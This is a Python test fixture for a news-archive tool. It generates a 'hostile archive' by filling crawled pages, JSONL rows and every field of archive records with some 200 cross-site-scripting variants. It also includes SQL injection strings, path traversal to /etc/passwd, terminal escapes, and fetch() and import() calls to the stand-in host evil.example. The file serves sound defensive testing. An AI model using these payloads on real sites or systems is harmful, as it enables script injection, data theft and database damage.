"""An archive that strangers wrote to do harm: 200 payloads and more, in every field that a page or a pile can fill.

Each calls what a browser under test watches (`alert`), or asks for http://evil.example, which is no machine of ours.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

from copydesk import edition
from copydesk.archive import Archive, Correction, Sheet
from copydesk.records import (
    Article,
    Block,
    Byline,
    Card,
    Claim,
    Copy,
    Dateline,
    Difference,
    Event,
    Gallery,
    Mention,
    Moment,
    Notes,
    Oddity,
    Organisation,
    Origin,
    Page,
    Person,
    Photo,
    Place,
    Reason,
    Shared,
    Span,
    Spike,
    Statement,
    Story,
    page_key,
)

_CALLS = (
    "alert({n})",
    "window.ran={n}",
    "fetch('http://evil.example/{n}')",
    "import('http://evil.example/{n}.js')",
    "new Image().src='http://evil.example/{n}'",
)
_SHAPES = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    '"><svg onload={call}>',
    "'><svg/onload={call}//",
    '" autofocus onfocus={call} x="',
    "' onmouseover='{call}",
    "javascript:{call}",
    "java\tscript:{call}",
    "data:text/html,<script>{call}</script>",
    '<iframe srcdoc="<script>{call}</script>">',
    "<math><mtext></mtext><script>{call}</script></math>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</style><script>{call}</script>",
    "--><script>{call}</script>",
    "{{{{ ''.__class__ }}}}{{% raw %}}<script>{call}</script>",
    "]]><script>{call}</script>",
    "<details open ontoggle={call}>",
    "<body onload={call}>",
    "<a href=javascript:{call}>x</a>",
    "<form action=http://evil.example/><button autofocus formaction=javascript:{call}>x",
    "<object data=javascript:{call}>",
    "<animate onbegin={call} attributeName=x>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "<scr\x00ipt>{call}</scr\x00ipt>",
    "<ſcript>{call}</ſcript>",
    "%3Cscript%3E{call}%3C/script%3E",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\u2028<script>{call}</script>\u2029",
    "\u202e<script>{call}</script>",
    "`-{call}-`",
    "';{call};//",
    "${{{call}}}",
)
_PLAIN = (
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css'</style>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<img src="http://evil.example/x.png">',
    "<video src=http://evil.example/x.mp4 autoplay>",
    '" style="background:url(http://evil.example/x)" x="',
    "<portal src=http://evil.example/>",
    "http://evil.example/\"><script src='http://evil.example/x.js'></script>",
    "https://evil.example/' onclick='alert(1)",
    "//evil.example/",
    "\\\\evil.example\\x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:http://evil.example/1",
    "http://user:pass@evil.example/",
    "'; DROP TABLE articles; --",
    '" OR ""="',
    "*) UNION SELECT record FROM notes --",
    "../../../../etc/passwd",
    "%00",
    "\x1b]0;mine\x07\x1b[31m",
    "\x85\x9b2J",
    "A" * 3_000,
    "🏴\u200d☠️" * 40,
    "ﷺ" * 60,
    "a\u0300" * 300,
    "</body></html>",
    "<!--",
    "<plaintext>",
)


def payloads() -> list[str]:
    """All of them, in one order."""
    made = [
        shape.format(call=call.format(n=n), n=n)
        for n, (shape, call) in enumerate((shape, call) for shape in _SHAPES for call in _CALLS)
    ]
    return [*made, *_PLAIN]


_BODY = (
    "The harbour bridge at Gullhaven was shut on Tuesday after {n} stones fell, the mayor, Ida Moe, said. "
    "“Nobody was hurt and nobody will be,” said Tomas Wren of the Gullhaven Harbour Board. "
)
_MORE = "It will open again on 3 May 2024, he told the Port Ellery Courier, once the wall has been looked at by divers."


def _pages(folder: Path, evil: Iterator[str]) -> None:
    """What a crawl may bring: HTML whose every field is filled, and a table."""
    for n in range(30):
        e = [next(evil) for _ in range(9)]
        q = [html.escape(one, quote=True) for one in e]
        card = {
            "@type": "NewsArticle",
            "headline": e[0],
            "author": {"name": e[1]},
            "datePublished": f"2024-04-{n + 1:02}",
        }
        card |= {
            "url": e[2],
            "image": {"url": e[3], "caption": e[4]},
            "articleSection": e[5],
            "publisher": {"name": e[6]},
        }
        told = json.dumps(card).replace("</", "<\\/")
        body = "".join(f"<p>{_BODY.format(n=n)}{q[n % 9]} {_MORE}</p>" for _ in range(2))
        (folder / f"{n}.html").write_text(
            f'<html lang="en"><head><title>{q[0]}</title><link rel="canonical" href="{q[2]}">'
            f'<meta name="author" content="{q[1]}"><meta property="og:title" content="{q[7]}">'
            f'<script type="application/ld+json">{told}</script></head><body><article><h1>Bridge shut {q[0]}</h1>'
            f'<p class="byline">By Ida Moe {q[1]}</p>{body}<figure><img src="{q[3]}" alt="{q[8]}">'
            f"<figcaption>The bridge {q[4]} Photo: {q[6]}</figcaption></figure>"
            f'<div class="related"><a href="{q[2]}">Read next {q[7]}</a></div></article></body></html>',
            encoding="utf-8",
        )
    rows = []
    for n in range(10):
        e = [next(evil) for _ in range(4)]
        rows.append(
            {"url": e[0], "title": e[1], "author": e[2], "date": e[3], "text": f"{e[1]}\n\n{_BODY.format(n=n)}{_MORE}"}
        )
    (folder / "rows.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\n", encoding="utf-8")
    (folder / "<img src=x onerror=alert(1)>.html").write_bytes(b"\x89PNG\r\n\x1a\n")


def _sheet(n: int, evil: Iterator[str]) -> Sheet:
    """What no reader of ours would make, but a record can hold: a payload in every string of it."""
    text, blocks, body = "", [], ""
    for label in ("headline", "byline", "body", "caption", "ad", "comment", "body"):
        words = next(evil)
        span = Span(len(text), len(text) + len(words))
        blocks.append(Block(label=label, kind="p", span=span, raw=span, path=next(evil), why=next(evil)))  # type: ignore[arg-type]
        text += words + "\n"
    body = text
    url = next(evil)
    key = page_key(f"{n}", body)
    here = blocks[2].span
    claim = Claim(
        field="published", value=f"2024-04-{n + 1:02}", basis=next(evil), words=next(evil), raw=here, span=here
    )
    photo = Photo(
        **{name: next(evil) for name in ("src", "alt", "caption", "credit", "photographer", "agency", "place", "date")},
        caption_span=here,
        raw=here,
    )
    notes = Notes(
        key=key,
        people=(Person(key="p1", name=next(evil), mentions=(Mention(span=here),), roles=(here,)),),
        organisations=(Organisation(key="o1", name=next(evil), mentions=(Mention(span=here),)),),
        places=(
            Place(
                key="l1",
                name=next(evil),
                mentions=(here,),
                kind=next(evil),
                latitude=1.0,
                longitude=2.0,
                country=next(evil),
            ),
        ),
        moments=(Moment(key="m1", span=here, kind=next(evil), value=next(evil), mod=next(evil), anchor=next(evil)),),
        statements=(Statement(key="s1", content=(here,), cue=here, source=here, via=here, who="p1", voice="quote"),),
        events=(Event(key="e1", what=here, status="happened", who=("p1",), when=("m1",)),),
        oddities=(Oddity(kind=next(evil), spans=(here,), why=next(evil)),),
    )
    article = Article(
        key=key,
        url=url,
        text=text,
        blocks=tuple(blocks),
        form="html",
        site=next(evil),
        language=next(evil),
        headline=Claim(field="headline", value=next(evil), basis=next(evil), raw=here, span=blocks[0].span),
        bylines=(Byline(name=next(evil), basis=next(evil), role=next(evil)),),
        dateline=Dateline(span=here, place=next(evil), date=next(evil), agency=next(evil)),
        agency=Claim(field="agency", value=next(evil), basis=next(evil)),
        published=claim,
        photos=(photo, photo),
        galleries=(Gallery(photos=(0, 1)),),
        card=Card(claims=(claim, Claim(field=next(evil), value=next(evil), basis=next(evil), raw=here))),
    )
    page = Page(
        key=key, url=url, body=body, form="html", origin=Origin(path=next(evil), inside=next(evil), offset=n, length=1)
    )
    return Sheet(page=page, article=article, notes=notes)


def archive(folder: Path) -> Path:
    """The hostile archive, made below a folder."""
    pile, path = folder / "pile", folder / "hostile.db"
    pile.mkdir()
    evil = cycle(payloads())
    _pages(pile, evil)
    edition.run([str(pile)], path, jobs=1)
    with Archive(path, write=True) as desk:
        number = desk.begin("0.1", [next(evil)], {}, next(evil))
        sheets = [_sheet(n, evil) for n in range(12)]
        spikes = [
            Spike(
                key=f"{n:032x}",
                stage=next(evil),
                reason=next(evil),
                detail=next(evil),
                url=next(evil),
                origin=Origin(path=next(evil)),
            )
            for n in range(12)
        ]
        desk.add(number, sheets, spikes)
        desk.end(number, "done", "2024-05-01")
        keys = [one.article.key for one in sheets]
        span = Span(0, 2)
        copies = [
            Copy(
                key=key,
                kind="near",
                original=keys[0],
                like=keys[0],
                named=next(evil),
                share=0.9,
                back=0.9,
                sure=0.8,
                shared=(Shared(here=span, there=span),),
                differences=(Difference(kind="name", here=span, there=span), Difference(kind="quote", here=span)),
                reasons=(Reason(basis=next(evil), weight=1.0, words=next(evil), article=keys[0]),),
            )
            for key in keys[1:]
        ]
        desk.add_copies([("hostile", copies)])
        story = Story(key=keys[0], articles=tuple(keys), origins=(keys[0],), first="2024-04-01", last="2024-04-30")
        kept = [*desk.copy_groups()]
        desk.settle(kept, [*desk.stories(), story], "0.1", compared=0, cut=0)
        for what in ("label", "speaker", "original"):
            desk.correct(
                Correction(
                    key=keys[0],
                    what=what,
                    was=next(evil)[:900],
                    right=next(evil)[:900] + "x",
                    who=next(evil)[:900] + "x",
                    noted=next(evil)[:900],
                    span=span,
                    note=next(evil)[:900],
                )
            )
    return path
